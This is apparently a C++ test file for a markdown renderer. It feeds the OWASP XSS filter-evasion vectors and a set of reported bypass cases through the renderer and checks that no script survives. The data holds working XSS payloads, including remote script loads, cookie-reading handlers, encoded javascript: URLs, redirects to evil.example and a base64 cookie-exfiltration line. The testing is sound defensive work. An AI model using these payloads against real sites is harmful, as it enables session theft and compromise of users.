// Public XSS vectors through markdown::render: none may leave anything that
// runs script or loads foreign code in the output, checked independently
// with a gumbo parse of the output (tests/support/script_check.hpp).
//
// The vectors are transcribed from the OWASP XSS Filter Evasion Cheat Sheet
// (cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md of OWASP/CheatSheetSeries),
// one row each, followed by the cases of issue 9. Each is rendered alone, in
// the middle of a paragraph, in a list item and in a block quote, with raw
// HTML allowed (the default) and not.
#include <catch2/catch.hpp>

#include <string>
#include <vector>

#include "core/diagnostic.hpp"
#include "markdown/markdown.hpp"
#include "support/script_check.hpp"

namespace {

using namespace std::string_literals;

const std::vector<std::string> kOwasp = {
    R"x(<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>)x",
    "javascript:/*--></title></style></textarea></script></xmp>\n"
    "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    R"x(<a onmouseover="alert(document.cookie)">xxs link</a>)x",
    R"x(<a onmouseover=alert(document.cookie)>xxs link</a>)x",
    R"x(<IMG """><SCRIPT>alert("XSS")</SCRIPT>">)x",
    R"x(<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>)x",
    R"x(<IMG SRC=# onmouseover="alert('xxs')">)x",
    R"x(<IMG SRC= onmouseover="alert('xxs')">)x",
    R"x(<IMG onmouseover="alert('xxs')">)x",
    R"x(<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>)x",
    R"x(<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">)x",
    R"x(<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>)x",
    R"x(<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>)x",
    R"x(<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>)x",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    R"x(<IMG SRC="jav&#x09;ascript:alert('XSS');">)x",
    R"x(<IMG SRC="jav&#x0A;ascript:alert('XSS');">)x",
    R"x(<IMG SRC="jav&#x0D;ascript:alert('XSS');">)x",
    "<IMG SRC=java\0script:alert(\"XSS\")>"s,
    R"x(<IMG SRC=" &#14;  javascript:alert('XSS');">)x",
    R"x(<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>)x",
    R"x(<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>)x",
    R"x(<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>)x",
    R"x(<<SCRIPT>alert("XSS");//\<</SCRIPT>)x",
    R"x(<SCRIPT SRC=http://xss.rocks/xss.js?< B >)x",
    R"x(<SCRIPT SRC=//xss.rocks/.j>)x",
    R"x(<IMG SRC="javascript:alert('XSS')")x",
    R"x(<iframe src=http://xss.rocks/scriptlet.html <)x",
    R"x(\";alert('XSS');//)x",
    R"x(</script><script>alert('XSS');</script>)x",
    R"x(</TITLE><SCRIPT>alert("XSS");</SCRIPT>)x",
    R"x(<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">)x",
    R"x(<BODY BACKGROUND="javascript:alert('XSS')">)x",
    R"x(<IMG DYNSRC="javascript:alert('XSS')">)x",
    R"x(<IMG LOWSRC="javascript:alert('XSS')">)x",
    R"x(<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>)x",
    R"x(<IMG SRC='vbscript:msgbox("XSS")'>)x",
    R"x(<IMG SRC="livescript:[code]">)x",
    R"x(<svg/onload=alert('XSS')>)x",
    R"x(Set.constructor`alert\x28document.domain\x29)x",
    R"x(<BODY ONLOAD=alert('XSS')>)x",
    R"x(<BGSOUND SRC="javascript:alert('XSS');">)x",
    R"x(<BR SIZE="&{alert('XSS')}">)x",
    R"x(<LINK REL="stylesheet" HREF="javascript:alert('XSS');">)x",
    R"x(<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">)x",
    R"x(<STYLE>@import'http://xss.rocks/xss.css';</STYLE>)x",
    R"x(<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">)x",
    R"x(<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>)x",
    R"x(<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>)x",
    R"x(<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">)x",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");\nxss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    R"x(<STYLE TYPE="text/javascript">alert('XSS');</STYLE>)x",
    R"x(<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>)x",
    R"x(<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>)x",
    R"x(<STYLE type="text/css">BODY{background:url("<javascript:alert>('XSS')")}</STYLE>)x",
    R"x(<XSS STYLE="xss:expression(alert('XSS'))">)x",
    R"x(<XSS STYLE="behavior: url(xss.htc);">)x",
    "¼script¾alert(¢XSS¢)¼/script¾",
    R"x(<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">)x",
    R"x(<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">)x",
    R"x(<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">)x",
    R"x(<IFRAME SRC="javascript:alert('XSS');"></IFRAME>)x",
    R"x(<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>)x",
    R"x(<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>)x",
    R"x(<TABLE BACKGROUND="javascript:alert('XSS')">)x",
    R"x(<TABLE><TD BACKGROUND="javascript:alert('XSS')">)x",
    R"x(<DIV STYLE="background-image: url(javascript:alert('XSS'))">)x",
    R"x(<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">)x",
    R"x(<DIV STYLE="width: expression(alert('XSS'));">)x",
    "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
    R"x(<BASE HREF="javascript:alert('XSS');//">)x",
    R"x(<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>)x",
    R"x(<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>)x",
    R"x(<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>)x",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>\n"
    "<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<XML SRC=\"xsstest.xml\" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
    "<HTML><BODY>\n<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">\n"
    "<?import namespace=\"t\" implementation=\"#default#time2\">\n"
    "<t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(\"XSS\")</SCRIPT>\">\n</BODY></HTML>",
    R"x(<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>)x",
    R"x(<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'"-->)x",
    "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    R"x(<IMG SRC="http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode">)x",
    R"x(<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">)x",
    R"x(<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-)x",
    R"x(<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>)x",
    R"x(<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>)x",
    R"x(<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>)x",
    R"x(<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>)x",
    R"x(<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>)x",
    R"x(<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>)x",
    R"x(<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>)x",
    R"x(<A HREF="http://66.102.7.147/">XSS</A>)x",
    R"x(<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>)x",
    R"x(<A HREF="http://1113982867/">XSS</A>)x",
    R"x(<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>)x",
    R"x(<A HREF="http://0102.0146.0007.00000223/">XSS</A>)x",
    R"x(<img onload="eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5jb29raWU='))">)x",
    "<A HREF=\"h \ntt  p://6\t6.000146.0x7.147/\">XSS</A>",
    R"x(<A HREF="//www.google.com/">XSS</A>)x",
    R"x(<A HREF="//google">XSS</A>)x",
    R"x(<A HREF="http://ha.ckers.org@google">XSS</A>)x",
    R"x(<A HREF="http://google:ha.ckers.org">XSS</A>)x",
    R"x(<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>)x",
    R"x(<A HREF="http://www.google.com/ogle.com/">XSS</A>)x",
    R"x(<a href="/share?content_type=1&title=This is a regular title&amp;content_type=1;alert(1)">Share</a>)x",
    R"x(/?param=<javascript:alert(document.cookie>))x",
    R"x(/?param=<data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=>)x",
    R"x(<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">)x",
    R"x(<Video> <source onerror = "javascript: alert (XSS)">)x",
    R"x(<Input value = "XSS" type = text>)x",
    R"x(<applet code="javascript:confirm(document.cookie);">)x",
    R"x(<isindex x="javascript:" onmouseover="alert(XSS)">)x",
    "\"></SCRIPT>\xE2\x80\x9D>\xE2\x80\x99><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    R"x("><img src="x:x" onerror="alert(XSS)">)x",
    R"x("><iframe src="javascript:alert(XSS)">)x",
    R"x(<object data="javascript:alert(XSS)">)x",
    R"x(<isindex type=image src=1 onerror=alert(XSS)>)x",
    R"x(<img src=x:alert(alt) onerror=eval(src) alt=0>)x",
    R"x(<img  src="x:gif" onerror="window['al\u0065rt'](0)"></img>)x",
    R"x(<iframe/src="data:text/html,<svg onload=alert(1)>">)x",
    R"x(<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>)x",
    R"x(<svg><script xlink:href=data&colon;,window.open('https://www.google.com/')></script)x",
    R"x(<meta http-equiv="refresh" content="0;url=javascript:confirm(1)">)x",
    R"x(<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>)x",
    R"x(<form><a href="javascript:\u0061lert(1)">X)x",
    R"x(</script><img/*%00/src="worksinchrome&colon;prompt(1)"/%00*/onerror='eval(src)'>)x",
    R"x(<style>//*{x:expression(alert(/xss/))}//<style></style>)x",
    R"x(<img src="/" =_=" title="onerror='prompt(1)'">)x",
    R"x(<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa aaaaaaaaa aaaaaaaaaa href=j&#97v&#97script:&#97lert(1)>ClickMe)x",
    R"x(<script x> alert(1) </script 1=2)x",
    R"x(<form><button formaction=javascript&colon;alert(1)>CLICKME)x",
    R"x(<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;")x",
    R"x(<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E"></iframe>)x",
    R"x(<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>)x",
};

// The cases of issue 9 that passed the old deny-list, in several spellings.
const std::vector<std::string> kIssue = {
    "[bấm vào đây](&#x000000006a;avascript:alert(1))",
    R"x(<a href="&#x000000006a;avascript:alert(1)">bấm vào đây</a>)x",
    R"x(<a href="&#x000000006a&#x0000000061vascript&#x3a;alert(1)">bấm</a>)x",
    R"x(<svg><animate values="javascript:alert(1)" attributeName="href" begin="0s"/><a><text x="20" y="20">bấm</text></a></svg>)x",
    R"x(<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">bấm</text></a></svg>)x",
    "<div\nonmouseover=\"alert(1)\"\nclass=\"toan-man-hinh\">\nchữ\n</div>",
    "<div title=\"\n\n\" onmouseover=\"alert(1)\" style=\"position:fixed;inset:0\">chữ</div>",
    "<div\n\nonmouseover=\"alert(1)\" style=\"position:fixed;inset:0\">chữ</div>",
    "<div class=\"x\"\n\n> onmouseover=alert(1) <div onmouseover=alert(1)>",
    "<div id=\"a\nb\" on\nmouseover=\"alert(1)\">x</div>",
    R"x(<base href="https://evil.example/">)x",
    R"x(<BASE HREF="//evil.example/">)x",
    R"x(<meta http-equiv="refresh" content="0;url=https://evil.example/">)x",
    R"x(<link rel="stylesheet" href="https://evil.example/x.css">)x",
    R"x(<link rel="import" href="https://evil.example/x.html">)x",
    "[bấm](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    R"x(<a href="data:text/html,<script>alert(1)</script>">bấm</a>)x",
    R"x(![ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+))x",
    "[x]\n\n[x]: javascript:alert(1)",
    "<a href=\"java\nscript:alert(1)\">x</a>",
};

std::vector<std::string> contexts(const std::string& vector) {
  return {vector + "\n", "Đầu câu " + vector + " cuối câu.\n", "- " + vector + "\n", "> " + vector + "\n",
          "Mở đầu\n\n" + vector + "\n\nKết thúc\n"};
}

void check_vectors(const std::vector<std::string>& vectors) {
  for (const std::string& v : vectors) {
    for (bool raw : {true, false}) {
      for (const std::string& input : contexts(v)) {
        wt::DiagnosticSink sink;
        wt::markdown::Options options;
        options.allow_raw_html = raw;
        std::string html = wt::markdown::render(input, "content/a.md", 0, nullptr, options, sink).html;
        INFO("input: " << input << "\nraw HTML allowed: " << raw << "\noutput: " << html);
        CHECK(wt_test::script_problems(html).empty());
        CHECK(sink.error_count() == 0);
      }
    }
  }
}

}  // namespace

TEST_CASE("markdown::render leaves no script from the OWASP XSS filter evasion vectors", "[markdown][xss]") {
  CHECK(kOwasp.size() >= 80);
  check_vectors(kOwasp);
}

TEST_CASE("markdown::render leaves no script from the vectors of issue 9", "[markdown][xss]") {
  check_vectors(kIssue);
}

TEST_CASE("the script check itself finds what it looks for", "[markdown][xss]") {
  // A check that cannot fail would prove nothing.
  CHECK(wt_test::script_problems("<p>a</p><img src=x>").empty());
  CHECK(wt_test::script_problems("<script>x</script>") == std::vector<std::string>{"element <script>"});
  CHECK(wt_test::script_problems("<div onmouseover=x>") == std::vector<std::string>{"attribute onmouseover on <div>"});
  CHECK(wt_test::script_problems("<p style=\"x\">") == std::vector<std::string>{"attribute style on <p>"});
  CHECK(wt_test::script_problems("<a href=\" java&#x09;script:x\">") ==
        std::vector<std::string>{"attribute href=\" java\tscript:x\" on <a>"});
  CHECK(wt_test::script_problems("<img src=\"data:image/svg+xml,x\">").size() == 1);
  CHECK(wt_test::script_problems("<img src=\"data:image/png;base64,x\">").empty());
  CHECK(wt_test::script_problems("<svg><a xlink:href=\"javascript:x\"></a></svg>").size() == 3);
  CHECK(wt_test::script_problems("<base href=\"//x\"><meta http-equiv=refresh><link href=x>").size() == 3);
}
